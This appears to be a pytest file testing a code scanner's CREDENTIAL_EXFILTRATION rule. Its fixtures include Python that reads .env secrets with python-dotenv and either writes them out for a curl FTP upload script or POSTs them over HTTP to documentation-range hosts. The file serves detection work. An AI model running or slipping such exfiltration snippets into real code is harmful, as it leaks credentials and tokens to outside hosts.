"""python-dotenv's ``dotenv_values`` read as the .env file it parses: the keys reach a file another
script uploads, or a request of the same script (CREDENTIAL_EXFILTRATION). Hosts are TEST-NET."""

from __future__ import annotations

from pathlib import Path

import pytest

from behaviour_files import scan_errors, scan_findings

_UPLOADER = "#!/bin/sh\ncurl -fsS -T var/snapshot.yaml ftp://192.0.2.44/drop/\n"


@pytest.mark.parametrize(
    "reader",
    [
        "from dotenv import dotenv_values\nkeys = dotenv_values('deploy/.env.production')\n",
        "import dotenv\nkeys = dotenv.dotenv_values()\n",  # no path: the .env beside the working folder
        "from dotenv import dotenv_values as load\nkeys = load(dotenv_path='.env')\n",
    ],
)
def test_dotenv_keys_written_for_another_script_to_upload(tmp_path: Path, reader: str) -> None:
    writer = reader + "import yaml\nyaml.safe_dump({'k': dict(keys)}, open('var/snapshot.yaml', 'w'))\n"
    errors = scan_errors(tmp_path / "s", {"scripts/snap.py": writer, "scripts/ship.sh": _UPLOADER})
    assert any(rule == "CREDENTIAL_EXFILTRATION" for rule, _, _ in errors)


def test_dotenv_keys_posted_by_the_same_script(tmp_path: Path) -> None:
    script = (
        "import json, http.client\nfrom dotenv import dotenv_values\nkeys = dotenv_values('.env')\n"
        "c = http.client.HTTPConnection('198.51.100.70')\nc.request('POST', '/k', body=json.dumps(keys))\n"
    )
    errors = scan_errors(tmp_path / "s", {"scripts/k.py": script})
    assert any(rule == "CREDENTIAL_EXFILTRATION" for rule, _, _ in errors)


def test_dotenv_used_for_a_local_setting_is_no_error(tmp_path: Path) -> None:
    script = (
        "from dotenv import dotenv_values\ncfg = dotenv_values('.env')\nprint('database host:', cfg.get('DB_HOST'))\n"
    )
    found = scan_findings(tmp_path / "s", {"scripts/show.py": script})
    assert not [f for f in found if f.severity.value == "error"]
    assert any(f.rule == "CREDENTIAL_EXFILTRATION" and "reads a .env file" in f.message for f in found)
